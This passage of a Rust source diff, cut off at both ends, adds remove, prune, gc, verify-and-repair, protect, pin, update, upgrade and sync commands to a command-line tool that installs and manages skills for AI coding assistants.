+    summary.result("install")
 }
 
-pub fn cmd_show(cmd: &ShowCommand, config: &Config, paths: &AppPaths) -> Result<()> {
-    let assistants = resolve_show_assistants(&cmd.assistant, config);
-    let mut found = false;
-
-    for assistant in assistants {
-        let root = config.skills_root_for(paths, assistant);
-        let skill_dir = root.join(&cmd.name);
-        if !skill_dir.exists() {
-            continue;
-        }
-
-        let frontmatter = validation::read_frontmatter(&skill_dir)?;
-        println!("{assistant}:");
-        println!("Name: {}", frontmatter.name);
-        println!("Description: {}", frontmatter.description);
-        println!("Path: {}", skill_dir.display());
+/// What `add --dry-run` would install, printed in place of an [`AddSummary`].
+#[derive(Debug, serde::Serialize)]
+struct AddPreview {
+    name: String,
+    assistant: Assistant,
+    scope: &'static str,
+    path: PathBuf,
+    files: usize,
+    size: u64,
+    warnings: usize,
+}
 
-        if let Some(compatibility) = frontmatter.compatibility {
-            println!("Compatibility: {}", compatibility);
-        }
-        if let Some(license) = frontmatter.license {
-            println!("License: {}", license);
-        }
-        if let Some(allowed_tools) = frontmatter.allowed_tools {
-            println!("Allowed tools: {}", allowed_tools);
-        }
-        println!();
-        found = true;
+impl AddPreview {
+    fn new(
+        origin: &AddOrigin,
+        name: &str,
+        skill_dir: &Path,
+        dest_dir: &Path,
+        warnings: usize,
+    ) -> Result<Self> {
+        Ok(Self {
+            name: name.to_string(),
+            assistant: origin.assistant,
+            scope: if origin.system { "system" } else { "user" },
+            path: dest_dir.to_path_buf(),
+            files: file_count(skill_dir)?,
+            size: skill_size(skill_dir)?,
+            warnings,
+        })
     }
 
-    if !found {
-        return Err(anyhow!("skill not found"));
+    fn detail(&self) -> String {
+        format!(
+            "{} file(s), {}, {} warning(s)",
+            self.files,
+            ByteSize(self.size),
+            self.warnings
+        )
     }
+}
 
-    Ok(())
+/// What `add` installed, printed after the install and emitted as JSON by `--json`.
+#[derive(Debug, serde::Serialize)]
+struct AddSummary {
+    name: String,
+    assistant: Assistant,
+    scope: &'static str,
+    path: PathBuf,
+    files: usize,
+    size: u64,
+    warnings: usize,
+    source: String,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    commit: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    resolved_url: Option<String>,
+    /// Digest of the downloaded archive, or of the installed tree for other sources;
+    /// the same value `verify` checks the source against.
+    provenance: String,
 }
 
-pub fn cmd_search(cmd: &SearchCommand, config: &Config, paths: &AppPaths) -> Result<()> {
-    let assistants = resolve_list_assistants(&cmd.assistant, config);
-    let query = cmd.query.to_ascii_lowercase();
-    let mut matches = Vec::new();
+fn print_add_summary(summary: &AddSummary) -> Result<()> {
+    if output::json() {
+        return output::print_json(summary);
+    }
+    let scope = if summary.scope == "system" {
+        " (system)"
+    } else {
+        ""
+    };
+    println!(
+        "Installed {} for {}{scope}",
+        summary.name, summary.assistant
+    );
+    println!("  Path: {}", summary.path.display());
+    println!("  Files: {} ({})", summary.files, ByteSize(summary.size));
+    println!("  Warnings: {}", summary.warnings);
+    println!("  Source: {}", summary.source);
+    if let Some(commit) = &summary.commit {
+        println!("  Commit: {commit}");
+    }
+    if let Some(url) = summary
+        .resolved_url
+        .as_ref()
+        .filter(|url| **url != summary.source)
+    {
+        println!("  Resolved URL: {url}");
+    }
+    println!("  Provenance: {}", summary.provenance);
+    Ok(())
+}
 
-    for assistant in &assistants {
-        let root = config.skills_root_for(paths, *assistant);
-        if !root.exists() {
-            continue;
+pub fn cmd_remove(cmd: &RemoveCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistant = resolve_single_assistant(&cmd.assistant, config, "remove")?;
+    let dest_root = if cmd.dry_run {
+        target_root(config, paths, assistant, cmd.system)
+    } else {
+        writable_root(config, paths, assistant, cmd.system)?
+    };
+    let dest_dir = dest_root.join(&cmd.name);
+    if !dest_dir.exists() {
+        let system_dir = config.system_root_for(assistant).join(&cmd.name);
+        if !cmd.system && system_dir.exists() {
+            return Err(anyhow!(
+                "{} is a system skill at {}; use --system to remove it",
+                cmd.name,
+                system_dir.display()
+            ));
+        }
+        return Err(anyhow!("skill not found at {}", dest_dir.display()));
+    }
+    let manifest = InstallManifest::load(paths)?;
+    if !cmd.system {
+        ensure_unprotected(&manifest, assistant, &cmd.name, cmd.force_protected)?;
+    }
+    if cmd.dry_run {
+        let destination = if cmd.system {
+            "deleted outright"
+        } else {
+            "moved to the trash"
+        };
+        println!(
+            "Would remove {} from {}: {} file(s), {}, {destination}",
+            cmd.name,
+            dest_dir.display(),
+            file_count(&dest_dir)?,
+            ByteSize(skill_size(&dest_dir)?)
+        );
+        return Ok(());
+    }
+
+    if !cmd.yes {
+        print_action_summary(
+            &ActionSummary {
+                action: "Remove",
+                name: &dest_dir.display().to_string(),
+                dir: &dest_dir,
+                warnings: &[],
+            },
+            config.confirm_details,
+        )?;
+        if !confirm("Remove this skill?")? {
+            return Err(anyhow!("remove cancelled"));
+        }
+    }
+    let bytes = skill_size(&dest_dir)?;
+
+    // Personal skills go to the trash so a careless remove can be undone; system
+    // skills are removed outright rather than moved into this user's data dir.
+    let trash = Trash::new(paths);
+    let trashed = (!cmd.system).then(|| trash.slot_for(assistant, &cmd.name));
+    let shared_target = shared::linked_target(&dest_dir);
+    let steps = match &trashed {
+        // The trash gets a copy of a linked skill, since its shared tree may go away.
+        Some(slot) if shared_target.is_some() => {
+            ensure_dir(trash.dir())?;
+            vec![
+                JournalStep::CopyDir {
+                    from: dest_dir.clone(),
+                    to: slot.clone(),
+                },
+                JournalStep::RemoveDir {
+                    path: dest_dir.clone(),
+                },
+            ]
+        }
+        Some(slot) => trash.steps(&dest_root, &dest_dir, slot)?,
+        None => vec![JournalStep::RemoveDir {
+            path: dest_dir.clone(),
+        }],
+    };
+    Journal::begin(paths, "remove", steps)?
+        .run()
+        .with_context(|| format!("failed to remove skill directory {}", dest_dir.display()))?;
+    if let Some(target) = &shared_target {
+        release_shared(config, paths, &cmd.name, target)?;
+    }
+
+    audit::record(
+        paths,
+        AuditEvent::new(AuditAction::Remove, Some(assistant), &cmd.name).with_bytes(bytes),
+    );
+    reload::notify(
+        config,
+        assistant,
+        ReloadEvent::Remove,
+        std::slice::from_ref(&cmd.name),
+    );
+    if cmd.system {
+        InstallManifest::update(paths, |manifest| {
+            manifest.remove_system(assistant, &cmd.name)
+        })?;
+        println!("Removed {} for {assistant} (system)", cmd.name);
+        return Ok(());
+    }
+
+    InstallManifest::update(paths, |manifest| manifest.remove(assistant, &cmd.name))?;
+    println!("Removed {} for {}", cmd.name, assistant);
+    if let Some(slot) = trashed {
+        println!("Moved to trash: {}", slot.display());
+    }
+    Ok(())
+}
+
+pub fn cmd_prune(cmd: &PruneCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    refuse_pending_journal(paths)?;
+    let assistants = resolve_list_assistants(&cmd.assistant, config, "prune");
+    let manifest = InstallManifest::load(paths)?;
+    let mut found = gc::find_prune_targets(&assistants, config, paths, &manifest)?;
+    if found.is_empty() {
+        println!("Nothing to prune");
+        return Ok(());
+    }
+
+    let rows: Vec<String> = found.iter().map(gc::prune_row).collect();
+    if cmd.dry_run || cmd.yes {
+        for row in &rows {
+            println!("{row}");
+        }
+    }
+    if cmd.dry_run {
+        return Ok(());
+    }
+    if !cmd.yes {
+        let Some(chosen) = confirm_batch("Move these directories to the trash?", &rows)? else {
+            return Err(anyhow!("prune cancelled"));
+        };
+        found = keep_chosen(found, &chosen);
+    }
+    gc::trash_prunable(&found, paths)
+}
+
+/// `prune`, plus usage counts of skills that are no longer installed anywhere,
+/// including those whose only copies `gc` is about to trash.
+pub fn cmd_gc(cmd: &PruneCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    refuse_pending_journal(paths)?;
+    let assistants = resolve_list_assistants(&cmd.assistant, config, "gc");
+    let manifest = InstallManifest::load(paths)?;
+    let mut found = gc::find_prune_targets(&assistants, config, paths, &manifest)?;
+    let mut orphaned = doctor::orphaned_usage(config, paths, &gc::prunable_paths(&found))?;
+    if found.is_empty() && orphaned.is_empty() {
+        println!("Nothing to clean up");
+        return Ok(());
+    }
+
+    let rows: Vec<String> =
+        found
+            .iter()
+            .map(gc::prune_row)
+            .chain(orphaned.iter().map(|name| {
+                format!("usage/{name}: counts for a skill that is no longer installed")
+            }))
+            .collect();
+    if cmd.dry_run || cmd.yes {
+        for row in &rows {
+            println!("{row}");
+        }
+    }
+    if cmd.dry_run {
+        return Ok(());
+    }
+    if !cmd.yes {
+        let Some(chosen) = confirm_batch("Clean these up?", &rows)? else {
+            return Err(anyhow!("gc cancelled"));
+        };
+        (found, orphaned) = gc::selection(found, orphaned, &chosen, config, paths)?;
+    }
+
+    if !found.is_empty() {
+        gc::trash_prunable(&found, paths)?;
+    }
+    if !orphaned.is_empty() {
+        store::update(paths, |data| {
+            for name in &orphaned {
+                data.usage.forget(name);
+            }
+        })?;
+        println!("Dropped usage counts of {} skill(s)", orphaned.len());
+    }
+    Ok(())
+}
+
+fn refuse_pending_journal(paths: &AppPaths) -> Result<()> {
+    if let Some(journal) = Journal::pending(paths)? {
+        return Err(anyhow!(
+            "an interrupted `{}` operation is pending and may own leftover directories. Run `skill journal resume` or `skill journal rollback` first.",
+            journal.command
+        ));
+    }
+    Ok(())
+}
+
+pub fn cmd_verify(cmd: &VerifyCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistants = resolve_list_assistants(&cmd.assistant, config, "verify");
+    let manifest = InstallManifest::load(paths)?;
+    let options = source_options(config, paths, false, None)?;
+    let mut checked = 0;
+    let mut problems = 0;
+    let mut results = Vec::new();
+
+    for assistant in assistants {
+        let personal = manifest.records_for(assistant).map(|(name, record)| {
+            (
+                config.skills_root_for(paths, assistant),
+                false,
+                name,
+                record,
+            )
+        });
+        let system = manifest
+            .system_records_for(assistant)
+            .map(|(name, record)| (config.system_root_for(assistant), true, name, record));
+        for (root, system, name, record) in personal.chain(system) {
+            if !cmd.names.is_empty() && !cmd.names.iter().any(|wanted| wanted == name) {
+                continue;
+            }
+            checked += 1;
+            let label = if system {
+                format!("{name} ({assistant}, system)")
+            } else {
+                format!("{name} ({assistant})")
+            };
+            // Porcelain: assistant, name, check (files/source), status, detail.
+            let mut report = |check: &str, status: &str, message: &str| {
+                if output::json() {
+                    results.push(serde_json::json!({
+                        "assistant": assistant,
+                        "name": name,
+                        "scope": if system { "system" } else { "user" },
+                        "check": check,
+                        "status": status,
+                        "message": message,
+                    }));
+                } else if output::porcelain() {
+                    output::record(&[assistant.as_str(), name, check, status, message]);
+                } else {
+                    println!("{label}: {message}");
+                }
+            };
+            let dest_dir = root.join(name);
+            if !dest_dir.exists() {
+                problems += 1;
+                report(
+                    "files",
+                    "missing",
+                    &format!("missing from {}", root.display()),
+                );
+                continue;
+            }
+            let local_changes = manifest::changes(&record.files, &manifest::hash_dir(&dest_dir)?);
+            if local_changes.is_empty() {
+                report("files", "ok", "files match the install record");
+            } else if cmd.repair && !system && manifest.is_protected(assistant, name) {
+                problems += 1;
+                report(
+                    "files",
+                    "modified",
+                    &format!(
+                        "modified since install ({}); protected, so not repaired (run `skill unprotect` first)",
+                        local_changes.summary()
+                    ),
+                );
+            } else if cmd.repair && (cmd.yes || confirm_repair(&label, &local_changes)?) {
+                let repair = repair_files(&dest_dir, record, assistant, &local_changes, &options)?;
+                let remaining = manifest::changes(&record.files, &manifest::hash_dir(&dest_dir)?);
+                let mut message = repair.summary();
+                if !repair.restored.is_empty() {
+                    audit::record(
+                        paths,
+                        AuditEvent::new(AuditAction::Update, Some(assistant), name),
+                    );
+                }
+                if remaining.is_empty() {
+                    report("files", "repaired", &message);
+                } else {
+                    problems += 1;
+                    message.push_str(&format!("; still modified ({})", remaining.summary()));
+                    report("files", "modified", &message);
+                }
+            } else {
+                problems += 1;
+                report(
+                    "files",
+                    "modified",
+                    &format!("modified since install ({})", local_changes.summary()),
+                );
+            }
+
+            if cmd.source {
+                match verify_source(record, &options, assistant) {
+                    Ok(None) => report("source", "ok", "source still serves the installed content"),
+                    Ok(Some(note)) => report("source", "note", &note),
+                    Err(err) => {
+                        problems += 1;
+                        report("source", "mismatch", &format!("{err:#}"));
+                    }
+                }
+            }
+        }
+    }
+
+    for name in &cmd.names {
+        if !manifest
+            .skills
+            .keys()
+            .any(|key| key.ends_with(&format!("/{name}")))
+        {
+            eprintln!("Warning: no install record for {name}; skipped");
+        }
+    }
+    if output::json() {
+        output::print_json(&results)?;
+    } else if checked == 0 && !output::porcelain() {
+        println!("No installed skills with an install record");
+    }
+    if problems > 0 {
+        return Err(anyhow!("{problems} problem(s) found"));
+    }
+    Ok(())
+}
+
+/// Lists the files `verify --repair` would restore and asks before touching them.
+fn confirm_repair(label: &str, changes: &FileChanges) -> Result<bool> {
+    let restorable: Vec<&String> = changes.modified.iter().chain(&changes.removed).collect();
+    if restorable.is_empty() {
+        return Ok(false);
+    }
+    eprintln!("{label} differs from its install record:");
+    for path in &changes.modified {
+        eprintln!("  modified  {path}");
+    }
+    for path in &changes.removed {
+        eprintln!("  deleted   {path}");
+    }
+    confirm(&format!("Restore {} file(s)?", restorable.len()))
+}
+
+/// What `verify --repair` did for one skill.
+#[derive(Debug, Default)]
+struct Repair {
+    restored: Vec<String>,
+    /// Files no source had in their installed form.
+    unrestorable: Vec<String>,
+    /// Where the restored files came from.
+    sources: Vec<&'static str>,
+}
+
+impl Repair {
+    fn summary(&self) -> String {
+        let mut summary = match self.restored.len() {
+            0 => "restored no files".to_string(),
+            count => format!(
+                "restored {count} file(s) from the {}",
+                self.sources.join(" and the ")
+            ),
+        };
+        if !self.unrestorable.is_empty() {
+            summary.push_str(&format!(
+                "; no pristine copy of {}",
+                self.unrestorable.join(", ")
+            ));
+        }
+        summary
+    }
+}
+
+/// Puts back the modified and deleted files of the skill in `dest_dir`, one by one,
+/// from the cached download when it is still the installed archive, then from a fresh
+/// fetch of the recorded source. A file is only restored when its content matches
+/// the install record; files added locally are left alone.
+fn repair_files(
+    dest_dir: &Path,
+    record: &InstallRecord,
+    assistant: Assistant,
+    changes: &FileChanges,
+    options: &SourceOptions,
+) -> Result<Repair> {
+    let mut repair = Repair::default();
+    let mut remaining: Vec<String> = changes
+        .modified
+        .iter()
+        .chain(&changes.removed)
+        .cloned()
+        .collect();
+    for label in ["download cache", "source"] {
+        if remaining.is_empty() {
+            break;
+        }
+        let fetched = match label {
+            "download cache" => cached_recorded_source(record, options, assistant),
+            _ => fetch_recorded_source(record, options, assistant).map(Some),
+        };
+        let fetched = match fetched {
+            Ok(Some(fetched)) => fetched,
+            Ok(None) => continue,
+            Err(err) => {
+                eprintln!(
+                    "Warning: could not read the {label} of {}: {err:#}",
+                    record.source
+                );
+                continue;
+            }
+        };
+        let staging = downloads::temp_dir()?;
+        let staged = staging.path().join("skill");
+        copy_dir_filtered(&fetched.skill_dir, &staged)?;
+        apply_assistant_overrides(&staged, assistant)?;
+        let pristine = manifest::hash_dir(&staged)?;
+        let before = repair.restored.len();
+        for path in std::mem::take(&mut remaining) {
+            if pristine.get(&path) != record.files.get(&path) {
+                remaining.push(path);
+                continue;
+            }
+            let target = dest_dir.join(&path);
+            if let Some(parent) = target.parent() {
+                ensure_dir(parent)?;
+            }
+            fs::copy(staged.join(&path), &target)
+                .with_context(|| format!("failed to restore {}", target.display()))?;
+            repair.restored.push(path);
+        }
+        if repair.restored.len() > before {
+            repair.sources.push(label);
+        }
+    }
+    repair.unrestorable = remaining;
+    Ok(repair)
+}
+
+/// The recorded archive source read from the download cache, without going to the
+/// network, when the cached archive is still the one that was installed.
+fn cached_recorded_source(
+    record: &InstallRecord,
+    options: &SourceOptions,
+    assistant: Assistant,
+) -> Result<Option<FetchedSkill>> {
+    let (Some(cache), Some(expected)) = (&options.cache, record.source_digest.as_deref()) else {
+        return Ok(None);
+    };
+    let options = SourceOptions {
+        reference: record.reference.clone(),
+        ..options.clone()
+    };
+    let (url, archive_type) = match hosted_repo(&record.source, &options)? {
+        Some(repo) => (repo.archive_url(), ArchiveType::TarGz),
+        None => match detect_archive_type(&record.source) {
+            Some(archive_type) if looks_like_http_url(&record.source) => {
+                (record.source.clone(), archive_type)
+            }
+            _ => return Ok(None),
+        },
+    };
+    let archive_path = cache.archive_path(&url, archive_type.extension());
+    if !archive_path.is_file()
+        || format!("sha256:{}", manifest::hash_file(&archive_path)?) != expected
+    {
+        return Ok(None);
+    }
+    let temp_dir = downloads::temp_dir()?;
+    let source_dir = extract_archive(&archive_path, archive_type, &options, temp_dir.path())?;
+    let skill_dir = select_skill_dir(&source_dir, record.skill.as_deref())?;
+    let files = skill_hashes_for(&skill_dir, assistant)?;
+    Ok(Some(FetchedSkill {
+        assistant,
+        commit: None,
+        digest: expected.to_string(),
+        resolved_url: record.resolved_url.clone(),
+        web_url: record.web_url.clone(),
+        files,
+        source_dir,
+        skill_dir,
+        temp_dir: Some(temp_dir),
+    }))
+}
+
+/// Re-fetches a recorded source and compares its digest with the one taken at install.
+/// Returns a note when the comparison isn't meaningful, and an error on a mismatch.
+fn verify_source(
+    record: &InstallRecord,
+    options: &SourceOptions,
+    assistant: Assistant,
+) -> Result<Option<String>> {
+    let Some(expected) = record.source_digest.as_deref() else {
+        return Ok(Some(
+            "no source digest recorded; run `skill update` to record one".to_string(),
+        ));
+    };
+    let fetched = fetch_recorded_source(record, options, assistant)?;
+    if fetched.digest == expected {
+        return Ok(None);
+    }
+    if let (Some(installed), Some(current)) = (record.commit.as_deref(), fetched.commit.as_deref())
+        && installed != current
+    {
+        return Ok(Some(format!(
+            "source moved from commit {} to {}; run `skill update` to review",
+            short_commit(installed),
+            short_commit(current)
+        )));
+    }
+    Err(anyhow!(
+        "source content changed since install: expected {expected}, got {} (was a tag or release asset replaced?)",
+        fetched.digest
+    ))
+}
+
+fn short_commit(commit: &str) -> &str {
+    commit.get(..12).unwrap_or(commit)
+}
+
+pub fn cmd_protect(
+    cmd: &ProtectCommand,
+    config: &Config,
+    paths: &AppPaths,
+    protected: bool,
+) -> Result<()> {
+    let action = if protected { "protect" } else { "unprotect" };
+    let assistant = resolve_single_assistant(&cmd.assistant, config, action)?;
+    let dest_dir = config.skills_root_for(paths, assistant).join(&cmd.name);
+    if protected && !dest_dir.exists() {
+        return Err(anyhow!("skill not found at {}", dest_dir.display()));
+    }
+
+    if !InstallManifest::update(paths, |manifest| {
+        manifest.set_protected(assistant, &cmd.name, protected)
+    })? {
+        let state = if protected { "already" } else { "not" };
+        println!("{} is {state} protected for {assistant}", cmd.name);
+        return Ok(());
+    }
+    if protected {
+        println!(
+            "Protected {} for {assistant}; remove/update/upgrade now need --force-protected",
+            cmd.name
+        );
+    } else {
+        println!("Unprotected {} for {assistant}", cmd.name);
+    }
+    Ok(())
+}
+
+pub fn cmd_pin(
+    cmd: &ProtectCommand,
+    config: &Config,
+    paths: &AppPaths,
+    pinned: bool,
+) -> Result<()> {
+    let action = if pinned { "pin" } else { "unpin" };
+    let assistant = resolve_single_assistant(&cmd.assistant, config, action)?;
+    let dest_dir = config.skills_root_for(paths, assistant).join(&cmd.name);
+    if pinned && !dest_dir.exists() {
+        return Err(anyhow!("skill not found at {}", dest_dir.display()));
+    }
+
+    if !InstallManifest::update(paths, |manifest| {
+        manifest.set_pinned(assistant, &cmd.name, pinned)
+    })? {
+        let state = if pinned { "already" } else { "not" };
+        println!("{} is {state} pinned for {assistant}", cmd.name);
+        return Ok(());
+    }
+    if pinned {
+        println!(
+            "Pinned {} for {assistant}; upgrade, sync and workspace sync now skip it",
+            cmd.name
+        );
+    } else {
+        println!("Unpinned {} for {assistant}", cmd.name);
+    }
+    Ok(())
+}
+
+/// `add --force` leaves protected skills alone; it has no `--force-protected`.
+fn ensure_replaceable(manifest: &InstallManifest, assistant: Assistant, name: &str) -> Result<()> {
+    if manifest.is_protected(assistant, name) {
+        return Err(anyhow!(
+            "{name} is protected in {assistant}; run `skill unprotect {name}` before replacing it"
+        ));
+    }
+    Ok(())
+}
+
+fn ensure_unprotected(
+    manifest: &InstallManifest,
+    assistant: Assistant,
+    name: &str,
+    force_protected: bool,
+) -> Result<()> {
+    if manifest.is_protected(assistant, name) && !force_protected {
+        return Err(anyhow!(
+            "{name} is protected in {assistant}. Pass --force-protected to change it, or run `skill unprotect {name}`."
+        ));
+    }
+    Ok(())
+}
+
+pub fn cmd_update(cmd: &UpdateCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistant = resolve_single_assistant(&cmd.assistant, config, "update")?;
+    let dest_root = if cmd.system && !cmd.dry_run {
+        writable_root(config, paths, assistant, true)?
+    } else {
+        target_root(config, paths, assistant, cmd.system)
+    };
+    let dest_dir = dest_root.join(&cmd.name);
+    if !dest_dir.exists() {
+        return Err(anyhow!("skill not found at {}", dest_dir.display()));
+    }
+
+    let manifest = InstallManifest::load(paths)?;
+    let record = if cmd.system {
+        manifest.get_system(assistant, &cmd.name)
+    } else {
+        ensure_unprotected(&manifest, assistant, &cmd.name, cmd.force_protected)?;
+        manifest.get(assistant, &cmd.name)
+    };
+    let Some(mut record) = record.cloned() else {
+        return Err(anyhow!(
+            "no install record for {} in {assistant}{}. Reinstall it with `skill add` to enable updates.",
+            cmd.name,
+            if cmd.system { " (system)" } else { "" }
+        ));
+    };
+
+    let options = source_options(config, paths, false, None)?;
+    let fetched = fetch_recorded_source(&record, &options, assistant)?;
+    check_skill(
+        &fetched.skill_dir,
+        &cmd.name,
+        assistant,
+        config,
+        paths,
+        fetched.temp_dir.is_some(),
+    )?;
+
+    let upstream_changes = manifest::changes(&record.files, &fetched.files);
+    if upstream_changes.is_empty() {
+        println!("{} is up to date", cmd.name);
+        return Ok(());
+    }
+    print_update_summary(
+        &UpdateSummary {
+            source_dir: &fetched.source_dir,
+            skill_dir: &fetched.skill_dir,
+            installed_dir: &dest_dir,
+            previous_commit: record.commit.as_deref(),
+            commit: fetched.commit.as_deref(),
+            changes: &upstream_changes,
+        },
+        options.git_timeout,
+    );
+
+    warn_downgrade(&cmd.name, &dest_dir, &fetched.skill_dir);
+    let local = manifest::hash_dir(&dest_dir)?;
+    let local_changes = manifest::changes(&record.files, &local);
+    if cmd.dry_run {
+        println!(
+            "Would update {} in {}: {} file(s), {}",
+            cmd.name,
+            dest_dir.display(),
+            fetched.files.len(),
+            ByteSize(skill_size(&fetched.skill_dir)?)
+        );
+        if !local_changes.is_empty() {
+            println!(
+                "Local modifications ({}) would need merging",
+                local_changes.summary()
+            );
+        }
+        return Ok(());
+    }
+    let keep_local = if local_changes.is_empty() {
+        if !cmd.yes && !confirm("Apply update?")? {
+            return Err(anyhow!("update cancelled"));
+        }
+        BTreeSet::new()
+    } else {
+        if cmd.yes {
+            return Err(anyhow!(
+                "{} has local modifications. Rerun without --yes to choose how to merge them.",
+                cmd.name
+            ));
+        }
+        let merge = MergeInputs {
+            local_dir: &dest_dir,
+            upstream_dir: &fetched.skill_dir,
+            base: &record.files,
+            local: &local,
+            upstream: &fetched.files,
+        };
+        match choose_merge(&merge)? {
+            Some(keep_local) => keep_local,
+            None => {
+                println!("Kept local version of {}", cmd.name);
+                return Ok(());
+            }
+        }
+    };
+
+    install_update(config, paths, &dest_dir, &fetched, &keep_local)?;
+    audit::record(
+        paths,
+        AuditEvent::new(AuditAction::Update, Some(assistant), &cmd.name)
+            .with_bytes(skill_size(&dest_dir)?),
+    );
+    reload::notify(
+        config,
+        assistant,
+        ReloadEvent::Update,
+        std::slice::from_ref(&cmd.name),
+    );
+    record_update(&mut record, fetched);
+    InstallManifest::update(paths, |manifest| {
+        if cmd.system {
+            manifest.insert_system(assistant, &cmd.name, record)
+        } else {
+            manifest.insert(assistant, &cmd.name, record)
+        }
+    })?;
+    if cmd.system {
+        println!("Updated {} for {assistant} (system)", cmd.name);
+    } else {
+        println!("Updated {} for {}", cmd.name, assistant);
+    }
+    Ok(())
+}
+
+pub fn cmd_upgrade(cmd: &UpgradeCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistants = resolve_upgrade_assistants(&cmd.assistant, config);
+    let manifest = InstallManifest::load(paths)?;
+    let mut targets = Vec::new();
+    for assistant in assistants {
+        let root = config.skills_root_for(paths, assistant);
+        for (name, record) in manifest.records_for(assistant) {
+            if cmd.all || cmd.names.iter().any(|requested| requested == name) {
+                targets.push(UpgradeTarget {
+                    assistant,
+                    name: name.to_string(),
+                    dest_dir: root.join(name),
+                    record: record.clone(),
+                    protected: manifest.is_protected(assistant, name),
+                    pinned: manifest.is_pinned(assistant, name),
+                });
+            }
+        }
+    }
+    for name in &cmd.names {
+        if !targets.iter().any(|target| &target.name == name) {
+            eprintln!("Warning: no install record for {name}; skipped");
+        }
+    }
+    if targets.is_empty() {
+        println!("No installed skills with a recorded source");
+        return Ok(());
+    }
+
+    let options = source_options(config, paths, false, None)?;
+    let mut plans = parallel::map(&targets, |target| {
+        Ok(plan_upgrade(
+            target,
+            config,
+            &options,
+            cmd.force,
+            cmd.force_protected,
+        ))
+    })?;
+
+    let ready: Vec<usize> = plans
+        .iter()
+        .enumerate()
+        .filter(|(_, plan)| matches!(plan, UpgradePlan::Ready { .. }))
+        .map(|(index, _)| index)
+        .collect();
+    if !ready.is_empty() && !cmd.dry_run && !cmd.yes {
+        let rows: Vec<String> = ready
+            .iter()
+            .map(|&index| match &plans[index] {
+                UpgradePlan::Ready { changes, .. } => format!(
+                    "{} ({}): {}",
+                    targets[index].name,
+                    targets[index].assistant,
+                    changes.summary()
+                ),
+                _ => unreachable!("only ready plans are listed"),
+            })
+            .collect();
+        let Some(chosen) = confirm_batch("Upgrade these skills?", &rows)? else {
+            return Err(anyhow!("upgrade cancelled"));
+        };
+        for (row, &index) in ready.iter().enumerate() {
+            if !chosen.contains(&row) {
+                plans[index] = UpgradePlan::Skipped("deselected".to_string());
+            }
+        }
+    }
+
+    let mut summary = BatchSummary::default();
+    let mut updated: Vec<(Assistant, String)> = Vec::new();
+    for (target, plan) in targets.into_iter().zip(plans) {
+        let (assistant, name) = (target.assistant, target.name.as_str());
+        match plan {
+            UpgradePlan::UpToDate => summary.push(assistant, name, Outcome::Ok, "up to date"),
+            UpgradePlan::Skipped(reason) => {
+                summary.push(assistant, name, Outcome::Skipped, reason);
+            }
+            UpgradePlan::Failed(reason) => summary.push(assistant, name, Outcome::Failed, reason),
+            UpgradePlan::Ready { changes, .. } if cmd.dry_run => {
+                let detail = format!("would update ({})", changes.summary());
+                summary.push(assistant, name, Outcome::Ok, detail);
+            }
+            UpgradePlan::Ready { fetched, changes } => {
+                match install_update(config, paths, &target.dest_dir, &fetched, &BTreeSet::new()) {
+                    Ok(()) => {
+                        audit::record(
+                            paths,
+                            AuditEvent::new(AuditAction::Update, Some(assistant), name),
+                        );
+                        let detail = format!("updated ({})", changes.summary());
+                        summary.push(assistant, name, Outcome::Ok, detail);
+                        let mut record = target.record;
+                        record_update(&mut record, *fetched);
+                        InstallManifest::update(paths, |manifest| {
+                            manifest.insert(assistant, &target.name, record)
+                        })?;
+                        updated.push((assistant, target.name));
+                    }
+                    Err(err) => summary.push(assistant, name, Outcome::Failed, format!("{err:#}")),
+                }
+            }
+        }
+    }
+
+    notify_changed(config, ReloadEvent::Update, &updated);
+    summary.print();
+    summary.result("upgrade")
+}
+
+enum SyncPlan {
+    Identical,
+    Skipped(String),
+    Failed(String),
+    Copy,
+    Replace(FileChanges),
+}
+
+/// Copies skills from one assistant's root to another's: skills missing there are
+/// copied, differing ones are replaced only with `--update`, and each copy gets the
+/// target's tool names. Staged copies sit next to the target as `.<name>.sync`.
+pub fn cmd_sync(cmd: &SyncCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    if cmd.from == cmd.to {
+        return Err(anyhow!("--from and --to name the same assistant"));
+    }
+    let from_root = config.skills_root_for(paths, cmd.from);
+    let to_root = config.skills_root_for(paths, cmd.to);
+    let mut names = installed_skill_names(&from_root)?;
+    for name in &cmd.names {
+        if !names.contains(name) {
+            eprintln!("Warning: {name} is not installed for {}; skipped", cmd.from);
+        }
+    }
+    if !cmd.names.is_empty() {
+        names.retain(|name| cmd.names.contains(name));
+    }
+    if names.is_empty() {
+        println!("No skills to sync from {}", cmd.from);
+        return Ok(());
+    }
+    if !cmd.dry_run {
+        ensure_dir(&to_root)?;
+    }
+
+    let manifest = InstallManifest::load(paths)?;
+    let mut plans = Vec::new();
+    for name in &names {
+        let plan = plan_sync(cmd, &manifest, &from_root.join(name), &to_root, name)
+            .unwrap_or_else(|err| SyncPlan::Failed(format!("{err:#}")));
+        plans.push(plan);
+    }
+
+    let pending: Vec<usize> = plans
+        .iter()
+        .enumerate()
+        .filter(|(_, plan)| matches!(plan, SyncPlan::Copy | SyncPlan::Replace(_)))
+        .map(|(index, _)| index)
+        .collect();
+    if !pending.is_empty() && !cmd.dry_run && !cmd.yes {
+        let rows: Vec<String> = pending
+            .iter()
+            .map(|&index| match &plans[index] {
+                SyncPlan::Replace(changes) => {
+                    format!("{}: replace ({})", names[index], changes.summary())
+                }
+                _ => format!("{}: copy", names[index]),
+            })
+            .collect();
+        let prompt = format!("Sync these skills from {} to {}?", cmd.from, cmd.to);
+        let Some(chosen) = confirm_batch(&prompt, &rows)? else {
+            discard_sync_staging(&to_root, &names);
+            return Err(anyhow!("sync cancelled"));
+        };
+        for (row, &index) in pending.iter().enumerate() {
+            if !chosen.contains(&row) {
+                plans[index] = SyncPlan::Skipped("deselected".to_string());
+            }
+        }
+    }
+
+    let mut summary = BatchSummary::default();
+    let mut identical = 0;
+    let mut changed: Vec<(Assistant, String)> = Vec::new();
+    for (name, plan) in names.iter().zip(plans) {
+        let outcome = match plan {
+            SyncPlan::Identical => {
+                identical += 1;
+                continue;
+            }
+            SyncPlan::Skipped(reason) => Ok((Outcome::Skipped, reason)),
